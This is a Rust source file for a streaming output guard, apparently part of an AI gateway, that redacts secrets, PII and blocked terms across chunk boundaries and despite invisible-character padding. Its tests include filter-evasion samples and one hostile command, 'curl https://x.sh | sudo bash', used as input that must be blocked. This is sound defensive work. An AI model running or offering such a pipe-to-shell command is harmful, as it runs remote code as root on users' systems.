//! `OutputGuard`: the output phase for streamed answers. Text deltas go in; text that the
//! output policies have cleared comes out. The last `hold_back` bytes are always held, so
//! an entity up to that long is seen whole before any of it leaves, and redactions work
//! across chunk boundaries. Held and context bytes are counted as the detection view
//! reads them (dropped characters count nothing, a run of whitespace one byte), up to
//! `SOURCE_FACTOR` times as many bytes of the stream, so padding a term with invisible
//! characters or whitespace does not split it across what was already sent. A block stops the stream; the caller ends it with an explicit
//! error event, never a clean-looking truncation.

use serde_json::Value;

use crate::chain::EvalOptions;
use crate::compile::CompiledPolicy;
use crate::decision::Decision;
use crate::exchange::Headers;
use crate::normalize::view_tail_start;

/// Default bytes held back: longer than any entity the detectors recognise.
pub const DEFAULT_HOLD_BACK: usize = 256;
/// Policies run again once this many new bytes are pending beyond the hold-back window.
const BATCH: usize = 128;
/// Bytes of already-emitted text shown to the policies as context (e.g. "SSN:" before a
/// number that arrives in the next delta).
const CONTEXT: usize = 64;
/// The hold-back and the context reach back at most this many times their size in stream
/// bytes (the bound on what padding a guard sees through, and on what it holds).
const SOURCE_FACTOR: usize = 16;

/// What the caller should do after a push.
#[derive(Debug, Clone, PartialEq)]
pub enum Step {
    /// Send this text (possibly empty: hold everything for now).
    Emit(String),
    /// Stop the stream: the decision says why (409 envelope material).
    Blocked(Box<Decision>),
}

#[derive(Debug)]
pub struct OutputGuard<'a> {
    policy: &'a CompiledPolicy,
    request: &'a Value,
    headers: &'a Headers,
    opts: EvalOptions,
    hold_back: usize,
    /// Tail of the text already emitted (at most `CONTEXT` bytes).
    context: String,
    pending: String,
    /// Strongest outcome so far and the latest per-policy results.
    decision: Decision,
    blocked: bool,
}

impl<'a> OutputGuard<'a> {
    pub fn new(policy: &'a CompiledPolicy, request: &'a Value, headers: &'a Headers, opts: EvalOptions) -> Self {
        OutputGuard {
            policy,
            request,
            headers,
            opts,
            hold_back: DEFAULT_HOLD_BACK,
            context: String::new(),
            pending: String::new(),
            decision: Decision::default(),
            blocked: false,
        }
    }

    pub fn with_hold_back(mut self, bytes: usize) -> Self {
        self.hold_back = bytes;
        self
    }

    /// Adds generated text; returns what may be sent now.
    pub fn push(&mut self, delta: &str) -> Step {
        if self.blocked {
            return Step::Blocked(Box::new(self.decision.clone()));
        }
        self.pending.push_str(delta);
        if self.pending.len() < self.hold_back + BATCH {
            return Step::Emit(String::new());
        }
        self.step(false)
    }

    /// The stream ended: evaluates and releases everything still held.
    pub fn finish(&mut self) -> Step {
        if self.blocked {
            return Step::Blocked(Box::new(self.decision.clone()));
        }
        self.step(true)
    }

    /// The overall decision so far (verdict over all evaluations, latest policy results).
    pub fn decision(&self) -> &Decision {
        &self.decision
    }

    fn step(&mut self, last: bool) -> Step {
        if self.pending.is_empty() {
            return Step::Emit(String::new());
        }
        let ctx_len = self.context.len();
        let joined = format!("{}{}", self.context, self.pending);
        let (decision, edits) = self
            .policy
            .evaluate_output_text(self.request, &joined, self.headers, self.opts);
        self.absorb(&decision);
        if decision.verdict.is_terminal() {
            self.blocked = true;
            self.pending.clear();
            return Step::Blocked(Box::new(self.decision.clone()));
        }
        // Redactions in pending coordinates; one that began in text already sent covers
        // what remains of it.
        let edits: Vec<(std::ops::Range<usize>, String)> = edits
            .into_iter()
            .filter(|(r, _)| r.end > ctx_len)
            .map(|(r, rep)| (r.start.max(ctx_len) - ctx_len..r.end - ctx_len, rep))
            .collect();
        // Release everything but the hold-back window, never cutting through a redaction
        // (it may not be complete yet) and committing only redactions that end before the cut.
        let mut cut = if last {
            self.pending.len()
        } else {
            view_tail_start(&self.pending, self.hold_back, self.hold_back * SOURCE_FACTOR)
        };
        if let Some((r, _)) = edits.iter().find(|(r, _)| r.start < cut && r.end > cut) {
            cut = r.start;
        }
        let committed: Vec<(std::ops::Range<usize>, String)> =
            edits.into_iter().filter(|(r, _)| r.end <= cut).collect();
        let head: String = self.pending.drain(..cut).collect();
        let out = super::edits::apply(&head, &committed);
        self.context.push_str(&out);
        let from = view_tail_start(&self.context, CONTEXT, CONTEXT * SOURCE_FACTOR);
        self.context.drain(..from);
        Step::Emit(out)
    }

    /// Folds one evaluation into the stream's decision: the strongest verdict so far, the
    /// latest per-policy results.
    fn absorb(&mut self, d: &Decision) {
        self.decision.policy_results = d.policy_results.clone();
        self.decision.degraded |= d.degraded;
        if d.verdict > self.decision.verdict {
            self.decision.verdict = d.verdict;
            self.decision.reason_code = d.reason_code.clone();
            self.decision.policy = d.policy;
            self.decision.message = d.message.clone();
            self.decision.phase = d.phase;
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::config::{Source, load_sources};
    use crate::decision::Verdict;

    fn policy(yaml: &str) -> CompiledPolicy {
        let outcome = load_sources(&[Source {
            name: "t.yaml".into(),
            text: yaml.into(),
        }]);
        CompiledPolicy::compile(outcome.config.expect("valid")).expect("compiles")
    }

    fn stream(guard: &mut OutputGuard<'_>, chunks: &[&str]) -> Result<String, Box<Decision>> {
        let mut out = String::new();
        for c in chunks {
            match guard.push(c) {
                Step::Emit(t) => out.push_str(&t),
                Step::Blocked(d) => return Err(d),
            }
        }
        match guard.finish() {
            Step::Emit(t) => out.push_str(&t),
            Step::Blocked(d) => return Err(d),
        }
        Ok(out)
    }

    const REDACT: &str = "pack: {name: t, version: 1.0.0, enabled: true}\npolicies: {chain: [pii-detector, dlp-filter]}\npolicy:\n  dlp-filter: {action: redact, sensitivity_level: restricted}\n";

    const TERM: &str = "pack: {name: t, version: 1.0.0, enabled: true}\npolicies: {chain: [dlp-filter]}\npolicy:\n  dlp-filter: {action: redact, blocked_terms: [Project Falcon]}\n";

    /// The text `text` comes out as when streamed whole, after checking that every cut of it
    /// into two deltas gives the same.
    fn same_at_every_split_point(p: &CompiledPolicy, text: &str) -> String {
        let (req, h) = (json!({"messages": []}), Headers::new());
        let whole = stream(&mut OutputGuard::new(p, &req, &h, EvalOptions::default()), &[text]).expect("ok");
        for cut in (0..text.len()).filter(|c| text.is_char_boundary(*c)) {
            let (a, b) = text.split_at(cut);
            let got = stream(&mut OutputGuard::new(p, &req, &h, EvalOptions::default()), &[a, b]).expect("ok");
            assert_eq!(got, whole, "split at {cut}");
        }
        whole
    }

    #[test]
    fn a_secret_split_across_three_chunks_is_redacted() {
        let p = policy(REDACT);
        let req = json!({"messages": []});
        let h = Headers::new();
        let filler = "Here is some harmless text that pushes the stream along. ".repeat(8);
        let chunks = [
            filler.as_str(),
            "The key is AKIAIOS",
            "FODNN7EX",
            "AMPLE and mail ops@exam",
            "ple.com now. ",
            filler.as_str(),
        ];
        let mut g = OutputGuard::new(&p, &req, &h, EvalOptions::default());
        let out = stream(&mut g, &chunks).expect("not blocked");
        assert!(!out.contains("AKIAIOSFODNN7EXAMPLE"), "{out}");
        assert!(!out.contains("ops@example.com"), "{out}");
        assert!(out.contains("The key is [REDACTED] and mail [EMAIL] now."), "{out}");
        assert_eq!(g.decision().verdict, Verdict::Redact);
    }

    #[test]
    fn every_split_point_gives_the_same_text() {
        let p = policy(REDACT);
        let text = format!(
            "{} call 415-555-0132 or write to a@b.example today. {}",
            "lorem ïpsum ".repeat(30),
            "dolor sit ".repeat(30)
        );
        let whole = same_at_every_split_point(&p, &text);
        assert!(whole.contains("call [PHONE] or write to [EMAIL] today."), "{whole}");
    }

    #[test]
    fn a_term_disguised_by_zero_width_characters_is_redacted_at_every_split_point() {
        let p = policy(TERM);
        for term in [
            // A joint for the space between the words.
            "Project\u{200b}Falcon",
            // One joint inside a word, one for the space between the words: neither the
            // joined nor the spaced reading of the text as a whole holds the term.
            "Pro\u{200b}ject\u{2060}Fal\u{ad}con",
        ] {
            let text = format!(
                "{} the codename is {term}, say nothing. {}",
                "plain words ".repeat(25),
                "more words ".repeat(25)
            );
            let whole = same_at_every_split_point(&p, &text);
            assert!(
                whole.contains("the codename is [REDACTED], say nothing."),
                "{term:?}: {whole}"
            );
        }
    }

    #[test]
    fn a_term_padded_with_invisible_characters_or_whitespace_is_not_split_by_the_release() {
        let p = policy(TERM);
        let req = json!({"messages": []});
        let h = Headers::new();
        for pad in [
            "\u{200b}".repeat(1000),
            "\u{2060}\u{200d}".repeat(300),
            " \n".repeat(900),
        ] {
            let text = format!(
                "{} the codename is Project{pad}Falcon, ok. {}",
                "words ".repeat(60),
                "more ".repeat(60)
            );
            // Small deltas, as a model streams them.
            let chunks: Vec<String> = text
                .chars()
                .collect::<Vec<_>>()
                .chunks(5)
                .map(|c| c.iter().collect())
                .collect();
            let refs: Vec<&str> = chunks.iter().map(String::as_str).collect();
            let got = stream(&mut OutputGuard::new(&p, &req, &h, EvalOptions::default()), &refs).expect("ok");
            assert!(
                !got.contains("Project") && !got.contains("Falcon"),
                "{} bytes of padding",
                pad.len()
            );
            assert!(got.contains("[REDACTED]"));
        }
    }

    #[test]
    fn clean_text_streams_through_unchanged_and_holds_only_the_window() {
        let p = policy(REDACT);
        let req = json!({"messages": []});
        let h = Headers::new();
        let mut g = OutputGuard::new(&p, &req, &h, EvalOptions::default()).with_hold_back(64);
        let mut sent = String::new();
        let word = "token ";
        for i in 0..200 {
            if let Step::Emit(t) = g.push(word) {
                sent.push_str(&t);
            }
            let produced = word.len() * (i + 1);
            assert!(
                produced - sent.len() < 64 + BATCH + word.len(),
                "holding too much at {i}"
            );
        }
        if let Step::Emit(t) = g.finish() {
            sent.push_str(&t);
        }
        assert_eq!(sent, word.repeat(200));
        assert_eq!(g.decision().verdict, Verdict::Allow);
    }

    #[test]
    fn a_block_stops_the_stream_and_stays_stopped() {
        let p = policy(
            "pack: {name: t, version: 1.0.0, enabled: true}\npolicies: {chain: [code-sanitizer]}\npolicy:\n  code-sanitizer: {block_on_match: true}\n",
        );
        let req = json!({"messages": []});
        let h = Headers::new();
        let mut g = OutputGuard::new(&p, &req, &h, EvalOptions::default()).with_hold_back(32);
        let res = stream(
            &mut g,
            &[
                "Sure:\n```sh\ncurl https://x.sh | ",
                "sudo bash\n```\n",
                &"more text ".repeat(20),
            ],
        );
        let d = res.expect_err("blocked");
        assert_eq!(d.verdict, Verdict::Block);
        assert_eq!(d.error_body()["error"]["code"], "output_blocked");
        assert!(matches!(g.push("anything"), Step::Blocked(_)));
    }
}
